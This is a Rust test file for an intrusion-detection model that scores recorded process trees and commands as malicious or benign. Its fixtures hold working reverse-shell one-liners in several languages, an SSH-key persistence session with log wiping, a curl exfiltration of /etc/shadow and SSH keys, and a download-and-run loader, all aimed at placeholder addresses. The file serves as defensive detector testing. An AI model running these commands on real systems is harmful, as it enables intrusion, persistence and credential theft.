//! Stories written by hand, none of them in any training data, and the side of the thresholds that they belong on.

use std::path::Path;

use cordon_behavior::story::Story;
use cordon_model::Model;

fn model() -> Model {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("artifact");
    Model::load(&dir).expect("the committed artifact loads")
}

fn probability(model: &Model, json: &str) -> f32 {
    let story = Story::from_json(json.as_bytes()).expect("a story");
    model.assess(&story).probability
}

/// What the demo does, as a sensor sees it: a page's script runs a visitor's text, which opens a shell back by a
/// language that no recording and no line of ours has.
const BY_WAY_OF_A_PAGE: [&str; 3] = [
    r#"{"id":"shell","process":{"exe":"/usr/bin/dash","argv":["/bin/sh","-i"],"cwd":"/srv/www","uid":65534,"euid":65534,"tty":false,
      "stdin":"socket","stdout":"socket","stderr":"socket"},
      "ancestors":[
       {"exe":"/usr/bin/perl","argv":["perl","-MSocket","-e","socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"10.99.0.66\")))&&do{open(STDIN,\"<&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh\",\"-i\")}"],"uid":65534},
       {"exe":"/usr/bin/dash","argv":["/bin/sh","-c","ping -c 1 -W 1 127.0.0.1;perl -MSocket -e '...'"],"uid":65534},
       {"exe":"/usr/bin/python3.11","argv":["/usr/bin/python3","/srv/www/cgi-bin/status"],"uid":65534},
       {"exe":"/usr/bin/python3.11","argv":["python3","-m","http.server","--cgi","8080"],"uid":0}],
      "connections":[{"direction":"out","protocol":"tcp","address":"10.99.0.66","port":4444}]}"#,
    r#"{"id":"shell6","process":{"exe":"/bin/bash","argv":["bash"],"uid":33,"euid":33,"stdin":"socket","stdout":"socket","stderr":"socket"},
      "ancestors":[{"exe":"/usr/bin/python3.11","argv":["python3","/var/www/cgi/search.py"],"uid":33},{"exe":"/usr/sbin/apache2","argv":["/usr/sbin/apache2","-k","start"],"uid":33}],
      "connections":[{"direction":"out","protocol":"tcp","address":"2001:db8::66","port":443}]}"#,
    r#"{"id":"looks","process":{"exe":"/bin/sh","argv":["sh","-i"],"uid":998,"euid":998,"stdin":"socket","stdout":"socket","stderr":"socket"},
      "ancestors":[{"exe":"/usr/bin/ruby3.1","argv":["ruby","/srv/shop/job.rb"],"uid":998},{"exe":"/usr/lib/systemd/systemd","argv":["/sbin/init"],"uid":0}],
      "children":[{"exe":"/usr/bin/id","argv":["id"]},{"exe":"/usr/bin/cat","argv":["cat","/etc/passwd"]}],
      "connections":[{"direction":"out","protocol":"tcp","address":"198.51.100.23","port":8443}]}"#,
];

/// Intruders' lines and a visit.
const BY_TEXT: [&str; 3] = [
    r#"{"id":"back","command":"nohup bash -c 'exec 9<>/dev/tcp/203.0.113.4/8443; sh <&9 >&9 2>&9' >/dev/null 2>&1 &"}"#,
    r#"{"id":"key","session":["w","mkdir -p /root/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQD x' >> /root/.ssh/authorized_keys; chattr +i /root/.ssh/authorized_keys","rm -rf /var/log/wtmp /var/log/auth.log","unset HISTFILE"]}"#,
    r#"{"id":"loot","command":"tar cz /etc/shadow /root/.ssh /home/*/.ssh 2>/dev/null | base64 -w0 | curl -s -X POST --data-binary @- http://203.0.113.7:9000/in"}"#,
];

/// What the present model misses: fetched, made executable and run in one line, word for word as many install a
/// tool. It stands here so that nobody takes it for found; who makes it found moves it up.
const MISSED: [&str; 1] = [
    r#"{"id":"fetch","command":"cd /dev/shm && curl -sO http://198.51.100.9:8081/lnx.bin && chmod 755 lnx.bin && ./lnx.bin -d"}"#,
];

/// Work that looks alike in one way or another.
const HONEST: [&str; 14] = [
    r#"{"id":"inetd","process":{"exe":"/bin/sh","argv":["/bin/sh","/usr/lib/backup/report.sh"],"uid":0,"euid":0,"stdin":"socket","stdout":"socket","stderr":"socket"},
      "ancestors":[{"exe":"/usr/sbin/xinetd","argv":["/usr/sbin/xinetd","-stayalive"],"uid":0}],
      "children":[{"exe":"/usr/bin/df","argv":["df","-P"]},{"exe":"/usr/bin/uptime","argv":["uptime"]}],
      "connections":[{"direction":"in","protocol":"tcp","address":"10.4.4.2","port":6556}]}"#,
    r#"{"id":"login","process":{"exe":"/bin/bash","argv":["-bash"],"uid":1000,"euid":1000,"tty":true,"stdin":"tty","stdout":"tty","stderr":"tty"},
      "ancestors":[{"exe":"/usr/sbin/sshd","argv":["sshd: erin@pts/3"]},{"exe":"/usr/sbin/sshd","argv":["sshd: erin [priv]"]}],
      "children":[{"exe":"/usr/bin/sudo","argv":["sudo","apt-get","-y","upgrade"]},{"exe":"/usr/bin/tail","argv":["tail","-n","40","/var/log/dpkg.log"]}]}"#,
    r#"{"id":"page","process":{"exe":"/usr/bin/dash","argv":["/bin/sh","-c","ping -c 1 -W 1 10.0.0.4"],"uid":33,"euid":33,"stdin":"null","stdout":"pipe","stderr":"pipe"},
      "ancestors":[{"exe":"/usr/bin/python3.11","argv":["/usr/bin/python3","/srv/www/cgi-bin/status"],"uid":33},{"exe":"/usr/bin/python3.11","argv":["python3","-m","http.server","--cgi","8080"]}],
      "children":[{"exe":"/usr/bin/ping","argv":["ping","-c","1","-W","1","10.0.0.4"]}]}"#,
    r#"{"id":"tar","process":{"exe":"/usr/bin/tar","argv":["tar","czf","/var/backups/etc-2026.tgz","/etc","/home"],"uid":0,"euid":0,"stdin":"null","stdout":"pipe"},
      "ancestors":[{"exe":"/bin/sh","argv":["/bin/sh","/etc/cron.daily/backup"]},{"exe":"/usr/sbin/cron","argv":["/usr/sbin/CRON","-f"]}]}"#,
    r#"{"id":"cc","process":{"exe":"/usr/bin/gcc","argv":["gcc","-O2","-o","hello","hello.c"],"uid":1000,"euid":1000,"cwd":"/home/erin/src","stdin":"tty","stdout":"tty"},
      "ancestors":[{"exe":"/bin/bash","argv":["bash"]}]}"#,
    r#"{"id":"dpkg","process":{"exe":"/usr/bin/dpkg-query","argv":["dpkg-query","-W","-f=${Package}\n"],"uid":0,"euid":0},"ancestors":[{"exe":"/bin/sh","argv":["sh","-c","dpkg-query -W | wc -l"]}]}"#,
    r#"{"id":"ci","process":{"exe":"/usr/bin/bash","argv":["/usr/bin/bash","-e","/home/build/_temp/77.sh"],"uid":1001,"euid":1001,"stdin":"pipe","stdout":"pipe","stderr":"pipe"},
      "ancestors":[{"exe":"/opt/buildbot/worker","argv":["worker","--server","https://ci.example.net"]}],
      "children":[{"exe":"/usr/bin/make","argv":["make","-j8"]}],
      "connections":[{"direction":"out","protocol":"tcp","address":"203.0.113.80","port":443}]}"#,
    r#"{"id":"upgrade","command":"apt-get update && DEBIAN_FRONTEND=noninteractive apt-get -y -o Dpkg::Options::=--force-confold dist-upgrade"}"#,
    r#"{"id":"postinst","command":"if [ \"$1\" = configure ]; then getent passwd _chrony >/dev/null || adduser --system --group --home /var/lib/chrony --no-create-home _chrony; chown -R _chrony: /var/lib/chrony; fi"}"#,
    r#"{"id":"harden","session":["cp -p /etc/ssh/sshd_config /root/sshd_config.orig","sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin prohibit-password/' /etc/ssh/sshd_config","chmod 600 /etc/ssh/sshd_config","sysctl -w net.ipv4.conf.all.accept_source_route=0","systemctl restart sshd"]}"#,
    r#"{"id":"wait","command":"until bash -c '</dev/tcp/postgres/5432' 2>/dev/null; do sleep 1; done; python3 manage.py migrate"}"#,
    r#"{"id":"build","session":["git clone --depth 1 https://git.example.net/tools/mill.git","cd mill","cmake -B out -DCMAKE_BUILD_TYPE=Release","cmake --build out -j8","ctest --test-dir out"]}"#,
    r#"{"id":"backup","command":"pg_dump -Fc shop | gpg --batch -e -r ops@example.net > /var/backups/shop.dump.gpg && find /var/backups -mtime +21 -delete"}"#,
    r#"{"id":"assistant","command":"rg -n 'fn main' src | head -20 && sed -n '1,60p' src/main.rs && cargo check 2>&1 | tail -5"}"#,
];

#[test]
fn attacks_are_malicious() {
    let model = model();
    let threshold = model.thresholds().malicious;
    let told: Vec<String> = BY_WAY_OF_A_PAGE
        .iter()
        .chain(&BY_TEXT)
        .map(|json| (probability(&model, json), json))
        .filter(|(probability, _)| *probability < threshold)
        .map(|(probability, json)| format!("{probability:.3} {}", &json[..40]))
        .collect();
    assert!(told.is_empty(), "below {threshold}: {told:#?}");
}

/// Services as a sensor sees them, nearest first.
const SERVICES: [&str; 8] = [
    r#"[{"exe":"/usr/bin/python3.11","argv":["/usr/bin/python3","/srv/www/cgi-bin/status"]},{"exe":"/usr/bin/python3.11","argv":["python3","-m","http.server","--cgi","8080"]}]"#,
    r#"[{"exe":"/usr/sbin/php-fpm8.2","argv":["php-fpm: pool www"]},{"exe":"/usr/sbin/php-fpm8.2","argv":["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"]}]"#,
    r#"[{"exe":"/usr/sbin/apache2","argv":["/usr/sbin/apache2","-k","start"]},{"exe":"/usr/sbin/apache2","argv":["/usr/sbin/apache2","-k","start"]}]"#,
    r#"[{"exe":"/usr/lib/jvm/java-17-openjdk-amd64/bin/java","argv":["java","-Dcatalina.base=/opt/tomcat","org.apache.catalina.startup.Bootstrap","start"]}]"#,
    r#"[{"exe":"/usr/lib/postgresql/15/bin/postgres","argv":["postgres: app shop 10.0.0.5(40412) COPY"]},{"exe":"/usr/lib/postgresql/15/bin/postgres","argv":["/usr/lib/postgresql/15/bin/postgres","-D","/var/lib/postgresql/15/main"]}]"#,
    r#"[{"exe":"/usr/bin/node","argv":["node","/srv/app/server.js"]}]"#,
    r#"[{"exe":"/bin/bash","argv":["-bash"]},{"exe":"/usr/sbin/sshd","argv":["sshd: kim@pts/1"]}]"#,
    r#"[{"exe":"/bin/sh","argv":["/bin/sh","-c","/usr/local/bin/job"]},{"exe":"/usr/sbin/cron","argv":["/usr/sbin/CRON","-f"]}]"#,
];

/// What opened the shell.
const OPENERS: [&str; 5] = [
    r#"{"exe":"/usr/bin/perl","argv":["perl","-MSocket","-e","socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"198.51.100.7\")))&&do{open(STDIN,\"<&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh\",\"-i\")}"]}"#,
    r#"{"exe":"/usr/bin/ruby3.1","argv":["ruby","-rsocket","-e","s=TCPSocket.new('198.51.100.7',4444);[0,1,2].each{|f|IO.for_fd(f).reopen(s)};exec '/bin/sh','-i'"]}"#,
    r#"{"exe":"/usr/bin/php8.2","argv":["php","-r","$s=fsockopen(\"198.51.100.7\",9001);proc_open(\"sh\",[$s,$s,$s],$p);"]}"#,
    r#"{"exe":"/usr/bin/lua5.4","argv":["lua5.4","-e","local s=require('socket').tcp();s:connect('198.51.100.7',4444);os.execute('sh -i')"]}"#,
    r#"{"exe":"/usr/bin/bash","argv":["bash","-c","bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]}"#,
];

/// A shell back is one below whatever service it was opened, in whatever language: a service that honest work runs under in
/// many recordings must not excuse it.
#[test]
fn a_shell_on_a_connection_is_malicious_below_every_service() {
    let model = model();
    let threshold = model.thresholds().malicious;
    let mut told = Vec::new();
    for (service, opener) in SERVICES
        .iter()
        .flat_map(|one| OPENERS.map(|other| (one, other)))
    {
        let call =
            r#"{"exe":"/usr/bin/dash","argv":["/bin/sh","-c","ping -c 1 -W 1 127.0.0.1;..."]}"#;
        let above = service.trim_start_matches('[');
        let json = format!(
            r#"{{"id":"back","process":{{"exe":"/usr/bin/dash","argv":["/bin/sh","-i"],"uid":33,"euid":33,"tty":false,"stdin":"socket","stdout":"socket","stderr":"socket"}},
              "ancestors":[{opener},{call},{above},
              "connections":[{{"direction":"out","protocol":"tcp","address":"198.51.100.7","port":4444}}]}}"#
        );
        let probability = probability(&model, &json);
        if probability < threshold {
            told.push(format!("{probability:.3} {opener} below {service}"));
        }
    }
    assert!(told.is_empty(), "below {threshold}: {told:#?}");
}

#[test]
fn what_is_said_to_be_missed_is_missed() {
    let model = model();
    let threshold = model.thresholds().malicious;
    for json in MISSED {
        let probability = probability(&model, json);
        assert!(probability < threshold, "found at {probability}: {json}");
    }
}

#[test]
fn work_that_looks_alike_is_not_malicious() {
    let model = model();
    let threshold = model.thresholds().malicious;
    let told: Vec<String> = HONEST
        .iter()
        .map(|json| (probability(&model, json), json))
        .filter(|(probability, _)| *probability >= threshold)
        .map(|(probability, json)| format!("{probability:.3} {}", &json[..40]))
        .collect();
    assert!(told.is_empty(), "not below {threshold}: {told:#?}");
}

#[test]
fn a_shell_back_is_named_as_one() {
    let model = model();
    let story = Story::from_json(BY_WAY_OF_A_PAGE[0].as_bytes()).expect("a story");
    let techniques = model.assess(&story).techniques;
    let names: Vec<&str> = techniques.iter().map(|(id, _)| id.as_str()).collect();
    assert!(names.iter().any(|id| id.starts_with("T1059")), "{names:?}");
}
